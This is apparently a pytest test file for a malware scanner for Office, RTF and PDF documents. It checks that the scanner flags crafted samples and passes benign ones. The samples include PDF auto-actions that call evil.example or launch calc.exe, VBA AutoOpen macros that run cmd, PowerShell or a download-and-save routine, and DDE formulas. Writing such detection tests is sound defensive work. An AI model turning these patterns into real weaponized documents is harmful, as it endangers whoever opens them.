"""Documents: Office, RTF, PDF. Samples are made here; real ones where SAFECARE_DATA names them."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from safecare.examine.api import Verdicts
from safecare.examine.engine import Engine
from safecare.examine.office.ole import unpack_native
from safecare.examine.office.rtf import embedded
from safecare.scenarios.make.office import archive, document, document_with_macro

ENGINE = Engine()
PDF = b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]/Contents 4 0 R>>endobj
4 0 obj<</Length 41>>stream
BT /F1 20 Tf 50 100 Td (Hello there) Tj ET
endstream endobj
trailer<</Root 1 0 R/Size 5>>
startxref
0
%%EOF"""


def opening(action: bytes) -> bytes:
    return PDF.replace(b"/Catalog", b"/Catalog/OpenAction<<" + action + b">>")


PDFS = {
    "pdf.calls.auto": opening(b"/S/URI/URI(http://evil.example/)"),
    "pdf.launch": opening(b"/S/Launch/F(calc.exe)"),
    "pdf.submits.auto": opening(b"/S/SubmitForm/F<</FS/URL/F(http://evil.example/)>>"),
    "pdf.foreign-server": PDF.replace(b"/Contents", rb"/AA<</O<</S/GoToE/F(\\\\evil.example\\a)>>>>/Contents"),
    "pdf.external": PDF.replace(b"/Length 41", b"/Length 41/F(http://evil.example/x)"),
    "pdf.names-hidden": opening(b"/S/Java#53cript/JS(app.alert(1))").replace(b"OpenAction", b"Open#41ction"),
    "pdf.javascript.reaches": opening(b"/S/JavaScript/JS(this.exportDataObject({nLaunch:2}))"),
    "pdf.javascript.attack": opening(b"/S/JavaScript/JS(while(true){app.beep(0)})"),
    "pdf.doubt.object": PDF.replace(b"trailer", b"4 0 obj<</Length 5>>stream\nBT ET\nendstream endobj\ntrailer"),
    "pdf.doubt.key": PDF.replace(b"/Contents 4 0 R", b"/Contents 4 0 R/Contents 5 0 R"),
    "pdf.doubt.root": PDF + b"\n5 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 5 0 R>>\nstartxref\n0\n%%EOF",
    "pdf.doubt.joined": PDF + b"\n" + PDF.replace(b"1 0 obj", b"9 0 obj"),
    "pdf.loop": PDF.replace(b"/Kids[3 0 R]", b"/Kids[2 0 R 3 0 R]"),
}


@pytest.mark.parametrize("rule", PDFS)
def test_what_a_pdf_does_is_found(rule: str) -> None:
    verdict = ENGINE.judge(PDFS[rule], "a.pdf")
    assert rule in [one.rule for one in verdict.findings]
    assert verdict.verdict is not Verdicts.CLEAN


@pytest.mark.parametrize(
    "raw",
    [
        PDF,
        PDF.replace(b"/Contents", b"/Annots[<</Subtype/Link/A<</S/URI/URI(https://a.example/)>>>>]/Contents"),
        PDF.replace(b"/Catalog", b"/Catalog/OpenAction[3 0 R/Fit]"),
        PDF
        + b"\n4 0 obj<</Length 5>>stream\nBT ET\nendstream endobj\ntrailer<</Root 1 0 R/Prev 9>>\nstartxref\n9\n%%EOF",
        opening(b"/S/JavaScript/JS(AFNumber_Format\\(2\\))"),
    ],
)
def test_what_honest_pdfs_do_is_not(raw: bytes) -> None:
    assert ENGINE.judge(raw, "a.pdf").verdict is Verdicts.CLEAN


def test_macros_that_run_and_act_are_malicious_and_plain_documents_clean() -> None:
    acting = document_with_macro("Pay", macro='Sub AutoOpen()\r\n  Shell "cmd /c calc"\r\nEnd Sub\r\n')
    assert ENGINE.judge(acting, "a.docm").verdict is Verdicts.MALICIOUS
    assert ENGINE.judge(document_with_macro("Pay"), "a.docm").verdict is Verdicts.CLEAN
    assert ENGINE.judge(document("Pay"), "a.docx").verdict is Verdicts.CLEAN


def related(kind: str, target: str) -> bytes:
    relation = f'<Relationship Id="r" Type="http://schemas/{kind}" Target="{target}" TargetMode="External"/>'
    return archive({"[Content_Types].xml": b"<Types/>", "word/_rels/document.xml.rels": relation.encode()})


@pytest.mark.parametrize(
    ("raw", "found"),
    [
        (related("attachedTemplate", "https://evil.example/a.dotm"), True),
        (related("oleObject", "https://evil.example/a.doc"), True),
        (related("hyperlink", "https://good.example/"), False),
        (related("image", "https://good.example/a.png"), False),
        (b"=cmd|'/c calc.exe'!A0", True),
        (b"name;age\nAnna;=A1+1\n", False),
        (b"WEB\r\n1\r\nhttp://evil.example/a\r\n", True),
        (b"{\\rtf1 hello}", False),
        (b"{\\rt hello {\\object\\objupdate{\\*\\objdata 01050000}}}", True),
        (b'<?xml version="1.0"?><w:document><w:instrText> DDEAUTO c:\\x </w:instrText></w:document>', True),
        (b'<?xml version="1.0"?><w:document><w:instrText> PAGE </w:instrText></w:document>', False),
    ],
)
def test_what_documents_do(raw: bytes, found: bool) -> None:
    assert (ENGINE.judge(raw).verdict is not Verdicts.CLEAN) == found


@pytest.mark.slow
def test_real_office_documents() -> None:
    folder = Path(os.environ.get("SAFECARE_DATA", "/nowhere")) / "files" / "office"
    if not folder.is_dir():
        pytest.skip("no data: SAFECARE_DATA/files/office")
    bad = [
        path for name in ("excel4-macros", "oleobj", "rtfobj") for path in (folder / name).rglob("*") if path.is_file()
    ]
    bad += folder.glob("encrypted/*standardpassword*")
    good = [*folder.glob("encrypted/encrypted.*"), *folder.rglob("harmless*"), *folder.glob("other/*")]
    missed = [path.name for path in bad if ENGINE.judge(path.read_bytes(), path.name).verdict is Verdicts.CLEAN]
    alarms = [path.name for path in good if ENGINE.judge(path.read_bytes(), path.name).verdict is not Verdicts.CLEAN]
    assert (missed, alarms) == ([], [])


@given(st.binary(max_size=400))
def test_any_bytes_after_a_true_beginning(raw: bytes) -> None:
    unpack_native(raw)
    embedded(raw)
    for start in (
        b"%PDF-1.4\n1 0 obj<<",
        b"{\\rtf1{\\object{\\*\\objdata ",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"PK\3\4",
    ):
        verdict = ENGINE.judge(start + raw)
        assert not [one for one in verdict.findings if one.rule.endswith(".failed")], verdict


EVIL_MACROS = {
    "starts a shell": 'Sub AutoOpen()\r\nShell "cmd.exe /c calc", 0\r\nEnd Sub',
    "fetches and writes": 'Sub Document_Open()\r\nSet x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", "http://a.example"\r\n'
    'Set s = CreateObject("ADODB.Stream")\r\ns.SaveToFile "a"\r\nEnd Sub',
    "waits for a click": 'Sub Button1_Click()\r\nCreateObject("WScript.Shell").Run "powershell -enc AAAA"\r\nEnd Sub',
    "letters as numbers": "Sub AutoOpen()\r\na = "
    + " & ".join(f"Chr({code})" for code in range(97, 120))
    + "\r\nEnd Sub",
    "by management": 'Sub Workbook_Open()\r\nGetObject("winmgmts:").Get("Win32_Process").Create "calc"\r\nEnd Sub',
}
HONEST_MACROS = {
    "greets": 'Sub Workbook_Open()\r\nMsgBox "Bonjour" & Chr(13) & Chr(10) & "Planning"\r\nEnd Sub',
    "calls its parts": 'Sub Total()\r\nCall Somme\r\nApplication.Run "Trier"\r\nEnd Sub',
    "exports": 'Sub Export()\r\nOpen "C:\\temp\\a.csv" For Output As #1\r\nPrint #1, "a;b"\r\nClose #1\r\nEnd Sub',
    "copies sheets": "Private Sub Worksheet_Change(ByVal Target As Range)\r\nSheets(1).Copy\r\nEnd Sub",
    "class of a sheet": 'Attribute VB_Base = "0{00020820-0000-0000-C000-000000000046}"\r\nSub A()\r\nEnd Sub',
    "rates": 'Sub Taux()\r\nSet x = CreateObject("MSXML2.XMLHTTP")\r\nx.Open "GET", "https://a.example"\r\nEnd Sub',
}


@pytest.mark.parametrize("name", EVIL_MACROS)
def test_macros_that_attack_are_found(name: str) -> None:
    found = ENGINE.judge(document_with_macro("a", macro=EVIL_MACROS[name]), "a.docm")
    assert found.score >= 0.5, found.findings


@pytest.mark.parametrize("name", HONEST_MACROS)
def test_macros_of_every_day_are_not_alarming(name: str) -> None:
    found = ENGINE.judge(document_with_macro("a", macro=HONEST_MACROS[name]), "a.docm")
    assert found.score < 0.5, found.findings
